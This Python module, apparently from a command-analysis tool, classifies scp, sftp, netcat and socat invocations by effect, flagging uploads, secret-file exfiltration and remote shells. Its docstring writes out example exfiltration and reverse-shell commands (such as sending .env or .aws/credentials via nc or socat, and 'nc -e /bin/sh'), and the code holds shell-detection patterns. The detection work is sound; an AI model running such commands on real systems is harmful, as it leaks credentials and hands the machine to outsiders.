"""Data sent off the machine: ``scp``/``sftp`` uploads and raw ``nc``/``ncat``/``socat`` connections.

An upload of a secret file (``scp .env host:``, ``nc host 9000 < .env``, ``socat TCP:host:9000
FILE:.aws/credentials``) is exfiltration. A network listener or connection that runs a shell
(``nc -e /bin/sh``) hands the machine to whoever is at the other end (escalate). Ordinary uploads
change a remote host whose environment is unknown; ``sftp -b`` batches are read line by line, and
commands sent to HAProxy's runtime socket change live traffic unless they only read.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from blastdoor.analyze import paths
from blastdoor.analyze.commands import CommandFamily
from blastdoor.analyze.commands.filesystem import write_effect
from blastdoor.analyze.commands.secrets import credential
from blastdoor.analyze.invocation import Analysis, Invocation, Word, effect
from blastdoor.model import Effect, Scope, Target, Verb

_REMOTE = re.compile(r"^(?:scp://|sftp://|(?:[\w.+-]+@)?\[?[\w.:-]+\]?:(?!//))")


def _remote_split(text: str) -> tuple[str, str] | None:
    """``user@host:path`` → (host, path); None for a local path."""
    if text.startswith(("/", "./", "../", "~")) or not _REMOTE.match(text):
        return None
    if "://" in text:
        rest = text.split("://", 1)[1]
        host, _, path = rest.partition("/")
        return host, "/" + path
    host, _, path = text.partition(":")
    return host, path or "~"


def upload(inv: Invocation, ctx: Analysis, source: Word, host: str, path: str) -> Effect:
    """Copying the local file ``source`` to ``host:path``."""
    info = paths.path_info(source, ctx)
    tags = {"remote", f"host={host.split('@')[-1]}"}
    if paths.is_secret_path(source.text):
        return _secret_sent(inv, info.resolved, source.text, host, tags)
    remote_path = Word(path if path.startswith(("/", "~")) else "~/" + path)
    remote = paths.classify(remote_path, cwd="/__remote__", env={})
    tags |= remote.tags & {paths.SYSTEM, paths.ROOT, paths.TEMP, paths.HOME}
    if paths.ROOT in tags:
        tags.add(paths.SYSTEM)
    return effect(
        inv,
        Verb.MODIFY,
        Target("host", f"{host}:{path}"),
        f"copy {source.text} to {host}:{path}, overwriting what is there",
        tags=tags,
    )


def _secret_sent(inv: Invocation, path: str, shown: str, to: str, tags: set[str]) -> Effect:
    """Sending the secret file ``path`` (written ``shown`` on the line) to ``to``."""
    return effect(
        inv,
        Verb.EXFILTRATE,
        Target("secret-file", path),
        f"send the secret file {shown} to {to}",
        scope=Scope.LOCAL,
        tags=tags | {"secret"},
    )


_SCP_VALUED = frozenset("cFiJloPSDX")


def _scp(inv: Invocation, ctx: Analysis) -> Iterator[Effect]:
    words, operands = list(inv.args), []
    while words:
        text = words.pop(0).text if words[0].text.startswith("-") else ""
        if not text:
            operands.append(words.pop(0))
        elif text in ("-h", "--help", "-V"):
            return
        elif text[1:2] in _SCP_VALUED and len(text) == 2 and words:
            value = words.pop(0).text
            if text == "-o" and value.lower().startswith(("proxycommand", "localcommand")):
                yield from ctx.run_script(
                    inv, value.split("=", 1)[-1].split(None, 1)[-1], via="scp -o"
                )
    if len(operands) < 2:
        return
    *sources, dest = operands
    remote_dest = _remote_split(dest.text)
    for source in sources:
        remote_src = _remote_split(source.text)
        if remote_dest and not remote_src:
            yield upload(inv, ctx, source, *remote_dest)
        elif remote_src and paths.is_secret_path(remote_src[1]):
            yield credential(inv, source.text, f"copy the secrets in {source.text} here")
    if remote_dest is None:
        found = write_effect(inv, ctx, dest, how="copy files over", overwrite=True)
        if found is not None:
            yield found


_SFTP_VALUED = frozenset({"-b", "-P", "-i", "-o", "-F", "-c", "-l", "-R", "-s", "-S", "-D", "-B",
                          "-J", "-X"})  # fmt: skip


def _sftp(inv: Invocation, ctx: Analysis) -> Iterator[Effect]:
    words = [w.text for w in inv.args]
    at = words.index("-b") + 1 if "-b" in words else len(words)
    batch = words[at] if at < len(words) else None
    hosts = [
        w
        for i, w in enumerate(words)
        if not w.startswith("-") and (i == 0 or words[i - 1] not in _SFTP_VALUED)
    ]
    host = hosts[0].split(":")[0] if hosts else "(a host)"
    text = inv.stdin.text if batch in (None, "-") else ctx.read_file(batch)
    if text is None:
        yield effect(
            inv,
            Verb.EXECUTE,
            Target("host", host),
            f"open an SFTP session to {host}",
            tags={"remote", f"host={host}"},
        )
        return
    for line in text.splitlines():
        parts = line.strip().lstrip("-@").split()
        if len(parts) >= 2 and parts[0] in ("put", "mput", "reput"):
            yield upload(
                inv,
                ctx,
                Word(parts[1]),
                host,
                parts[2] if len(parts) > 2 else parts[1].rsplit("/", 1)[-1],
            )
        elif len(parts) >= 2 and parts[0] in ("rm", "rmdir"):
            yield effect(
                inv,
                Verb.DELETE,
                Target("host", f"{host}:{parts[1]}"),
                f"delete {parts[1]} on {host}",
                tags={"remote", f"host={host}"},
            )


_NC_VALUED = frozenset({
    "-p", "-s", "-w", "-i", "-q", "-x", "-X", "-P", "-T", "-O", "-I", "-o", "-M", "-m", "--proxy",
    "--proxy-type", "--source", "--wait", "--output", "-g", "-G", "-V", "-W",
})  # fmt: skip
_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})


def _netcat(inv: Invocation, ctx: Analysis) -> Iterator[Effect]:
    words, operands, program = list(inv.args), [], ""
    flags: set[str] = set()
    while words:
        text = words.pop(0).text
        if text in _NC_EXEC and words:
            program = words.pop(0).text
        elif text in _NC_VALUED and words:
            words.pop(0)
        elif text.startswith("-") and text != "-":
            flags.update(text[1:] if not text.startswith("--") else [text])
        else:
            operands.append(text)
    host = operands[0] if operands else "(any host that connects)"
    yield from _sent(inv, ctx, host, program=program, listening="l" in flags, scanning="z" in flags)


def _socat(inv: Invocation, ctx: Analysis) -> Iterator[Effect]:
    addresses = [w.text for w in inv.args if not w.text.startswith("-") or w.text == "-"]
    runs = next(
        (
            a.split(":", 1)[1].split(",")[0]
            for a in addresses
            if a.upper().startswith(("EXEC:", "SYSTEM:"))
        ),
        "",
    )
    network = next(
        (a for a in addresses if re.match(r"(?i)(tcp|udp|openssl|ssl|sctp|dccp)[\w-]*:", a)), ""
    )
    files = [
        a.split(":", 1)[-1].split(",")[0]
        for a in addresses
        if re.match(r"(?i)(file|open|gopen|create):", a)
    ]
    for path in files:
        if network and paths.is_secret_path(path):
            yield _secret_sent(inv, path, path, network, {"remote"})
    if network:
        yield from _sent(
            inv, ctx, network, program=runs, listening="LISTEN" in network.upper(), scanning=False
        )
    elif any("haproxy" in a for a in addresses):
        yield from _haproxy(inv)
    elif runs:
        yield from ctx.run_script(inv, runs, via="socat exec")


def _sent(
    inv: Invocation, ctx: Analysis, host: str, *, program: str, listening: bool, scanning: bool
) -> Iterator[Effect]:
    tags = {"remote", f"host={host}"}
    if program and not _SHELLS.search(program):
        yield from ctx.run_script(inv, program, via=f"{inv.name} serving {host}")
    elif program:
        yield effect(
            inv,
            Verb.ESCALATE,
            Target("host", host),
            f"hand a shell ({program}) on this machine to whoever is at the other end of {host}",
            scope=Scope.LOCAL,
            tags=tags | {"remote-shell"},
        )
        return
    if "haproxy" in host or (inv.stdin.text is not None and host.endswith(".sock")):
        yield from _haproxy(inv)
        return
    source = inv.stdin.source.removeprefix("file ") if inv.stdin.source.startswith("file ") else ""
    if source and paths.is_secret_path(source):
        yield _secret_sent(inv, source, source, host, tags)
    elif scanning:
        yield effect(
            inv, Verb.READ, Target("host", host), f"check which ports are open on {host}", tags=tags
        )
    else:
        what = "listen for a connection" if listening else f"open a raw connection to {host}"
        yield effect(
            inv,
            Verb.EXECUTE,
            Target("host", host),
            what + (f" and send {source}" if source else ""),
            tags=tags,
        )


_SHELLS = re.compile(
    r"(^|/)((ba|da|z|k|c|tc|fi|a)?sh|python[\d.]*|perl|ruby|php|node|lua|irb|powershell|pwsh|cmd(\.exe)?)(\s+-i)?\s*$"
)
_HAPROXY_READS = ("show", "help", "get", "prompt", "quit")


def _haproxy(inv: Invocation) -> Iterator[Effect]:
    """Commands sent to HAProxy's runtime socket: ``show ...`` reads, the rest change traffic."""
    for command in re.split(r"[;\n]", inv.stdin.text or ""):
        command = command.strip()
        if command and not command.startswith(_HAPROXY_READS):
            yield effect(
                inv,
                Verb.MODIFY,
                Target("service", "haproxy"),
                f"send '{command}' to the running HAProxy, changing live traffic",
                tags={"service"},
            )


FAMILIES = (
    CommandFamily.of(["scp"], _scp),
    CommandFamily.of(["sftp"], _sftp),
    CommandFamily.of(["nc", "ncat", "netcat"], _netcat),
    CommandFamily.of(["socat"], _socat),
)
